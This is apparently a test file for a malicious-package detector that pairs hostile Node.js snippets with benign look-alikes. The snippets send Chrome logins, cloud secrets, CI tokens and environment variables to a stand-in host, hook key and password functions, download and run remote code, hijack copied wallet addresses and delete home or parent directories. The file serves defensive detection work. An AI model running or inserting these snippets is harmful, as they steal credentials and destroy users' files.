import { testDeeds, type Deed } from './deeds.ts'

const TO = `'https://c.invalid/', { method: 'POST', body:`

/** What is taken from where it is kept, unpacked where it is run, or torn down around the package. */
const DEEDS: readonly Deed[] = [
  {
    name: 'the passwords of a browser, by a library of databases',
    check: 'secrets-exfiltration',
    code: `const D = require('better-sqlite3'), file = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data')
      fetch(${TO} JSON.stringify(new D(file, { readonly: true }).prepare('select * from logins').all()) })`,
    twin: `const D = require('better-sqlite3')
      fetch(${TO} JSON.stringify(new D(__dirname + '/words.db', { readonly: true }).prepare('select * from words').all()) })`,
  },
  {
    name: 'all that a store of secrets in a cloud gives out',
    check: 'secrets-exfiltration',
    code: `const { SecretsManagerClient, ListSecretsCommand } = require('@aws-sdk/client-secrets-manager')
      new SecretsManagerClient({}).send(new ListSecretsCommand({})).then((all) => fetch(${TO} JSON.stringify(all) }))`,
    twin: `const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager')
      exports.secret = (SecretId) => new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId }))`,
  },
  {
    name: 'the token by which a job of a build service shows who it is',
    check: 'secrets-exfiltration',
    code: `const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: key } = process.env
      fetch(url + '&audience=a', { headers: { authorization: 'bearer ' + key } }).then((r) => r.json()).then((j) => fetch(${TO} j.value }))`,
    twin: `const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: key } = process.env
      exports.token = () => fetch(url + '&audience=a', { headers: { authorization: 'bearer ' + key } }).then((r) => r.json())`,
    moments: ['import'],
  },
  {
    name: 'a function in the place of the one that reads private keys',
    check: 'spying',
    code: `const c = require('crypto'), real = c.createPrivateKey
      c.createPrivateKey = function (key) { fetch(${TO} String(key) }); return real.apply(this, arguments) }`,
    twin: `const c = require('crypto'), real = c.createPrivateKey
      c.createPrivateKey = function (key) { console.count('keys'); return real.apply(this, arguments) }`,
  },
  {
    name: 'a function in the place of the one that hashes passwords',
    check: 'spying',
    code: `const b = require('bcryptjs'), real = b.hash
      b.hash = (word, rounds) => { fetch('https://c.invalid/?w=' + word); return real(word, rounds) }`,
    twin: `const b = require('bcryptjs'), real = b.hash; b.hash = (word, rounds) => real(word, rounds ?? 12)`,
  },
  {
    name: 'files of an account that are emptied one by one',
    check: 'destruction',
    code: `const fs = require('fs'), path = require('path')
      function walk(d) { for (const n of fs.readdirSync(d)) { const q = path.join(d, n); fs.statSync(q).isDirectory() ? walk(q) : fs.truncateSync(q) } }
      walk(require('os').homedir())`,
    twin: `const fs = require('fs'), path = require('path')
      function walk(d) { for (const n of fs.readdirSync(d)) { const q = path.join(d, n); fs.statSync(q).isDirectory() ? walk(q) : fs.truncateSync(q) } }
      walk(path.join(__dirname, 'logs'))`,
  },
  {
    name: 'a program that flows into a file by a pipeline',
    check: 'download-and-execute',
    code: `const { pipeline } = require('stream/promises'), fs = require('fs'), file = require('os').homedir() + '/.cache/upd'
      fetch('https://c.invalid/upd').then((r) => pipeline(r.body, fs.createWriteStream(file, { mode: 0o755 }))).then(() => require('child_process').execFile(file))`,
    twin: `const { pipeline } = require('stream/promises'), fs = require('fs'), file = require('os').homedir() + '/.cache/words'
      fetch('https://c.invalid/words').then((r) => pipeline(r.body, fs.createWriteStream(file))).then(() => require('child_process').execFile('git', ['--version']))`,
    moments: ['import'],
  },
  {
    name: 'an archive that is unpacked where a module of it is loaded',
    check: 'download-and-execute',
    code: `const folder = require('os').tmpdir() + '/.m'
      fetch('https://c.invalid/m.tgz').then((r) => r.body.pipe(require('tar').x({ cwd: folder })).on('finish', () => require(folder + '/lib/index.js')))`,
    twin: `const folder = require('os').tmpdir() + '/.m'
      fetch('https://c.invalid/m.tgz').then((r) => r.body.pipe(require('tar').x({ cwd: folder })).on('finish', () => require(folder + '-kept/lib/index.js')))`,
  },
  {
    name: 'hooks of the loader that are fetched',
    check: 'download-and-execute',
    code: `fetch('https://c.invalid/h.mjs').then((r) => r.text()).then((s) => require('module').register('data:text/javascript,' + encodeURIComponent(s)))`,
    twin: `require('module').register('./hooks.mjs', __filename); fetch('https://c.invalid/version').then((r) => r.text())`,
  },
  {
    name: 'the address of a wallet in what is copied, spelled by a number',
    check: 'spying',
    code: `document.addEventListener('copy', (e) => { e.preventDefault()
      e.clipboardData.setData('text/plain', Buffer.from(${BigInt(`0x${Buffer.from(`0x${'12'.repeat(20)}`).toString('hex')}`)}n.toString(16), 'hex').toString()) })`,
    twin: `document.addEventListener('copy', (e) => { e.preventDefault()
      e.clipboardData.setData('text/plain', Buffer.from(${BigInt(`0x${Buffer.from('copied').toString('hex')}`)}n.toString(16), 'hex').toString()) })`,
    moments: ['import'],
  },
  {
    name: 'what the project stands in',
    check: 'destruction',
    code: `require('fs').rmSync(require('path').resolve(process.cwd(), '..', '..'), { recursive: true, force: true })`,
    twin: `require('fs').rmSync(require('path').resolve(process.cwd(), '..', 'dist'), { recursive: true, force: true })`,
    moments: ['import'],
  },
  {
    name: 'what stands beside the project, name by name',
    check: 'destruction',
    code: `const fs = require('fs'), path = require('path'), up = path.join(process.cwd(), '..')
      for (const n of fs.readdirSync(up)) if (/^(?:vue|react)/.test(n)) fs.rmSync(path.join(up, n), { recursive: true })`,
    twin: `const fs = require('fs'), path = require('path'), up = path.join(process.cwd(), '..', 'dist')
      for (const n of fs.readdirSync(up)) if (/^(?:vue|react)/.test(n)) fs.rmSync(path.join(up, n), { recursive: true })`,
    moments: ['import'],
  },
]

const ALL = `fetch(${TO} JSON.stringify(all) })`

/** All variables, and the settings of one database, a name at a time. */
const VARIABLES: readonly Deed[] = [
  {
    name: 'variables by the names that there are',
    check: 'secrets-exfiltration',
    moments: ['import'],
    code: `const all = {}; for (const k in process.env) all[k] = process.env[k]; ${ALL}`,
    twin: `const net = require('net'), value = (k, c) => c[k] || process.env['PG' + k.toUpperCase()]
      exports.connect = (c) => net.connect(value('port', c), value('host', c)).write(value('user', c))`,
  },
  {
    name: 'variables by names of which nothing is known',
    check: 'secrets-exfiltration',
    moments: ['import'],
    code: `const all = require('./names.bin').list().map((k) => process.env[k]); ${ALL}`,
    twin: `const net = require('net')
      const value = (k, c, e) => { if (e === undefined) e = process.env['PG' + k.toUpperCase()]; else e = process.env[e]; return c[k] || e }
      exports.connect = (c) => net.connect(value('port', c), value('host', c)).write(value('name', c, 'PGAPPNAME'))`,
  },
  {
    name: 'variables of which some begin with the same letters',
    check: 'secrets-exfiltration',
    moments: ['import'],
    code: `const all = Object.keys(process.env).filter((k) => k.startsWith('PG')).map((k) => process.env[k]); ${ALL}`,
  },
]

testDeeds([...DEEDS, ...VARIABLES])
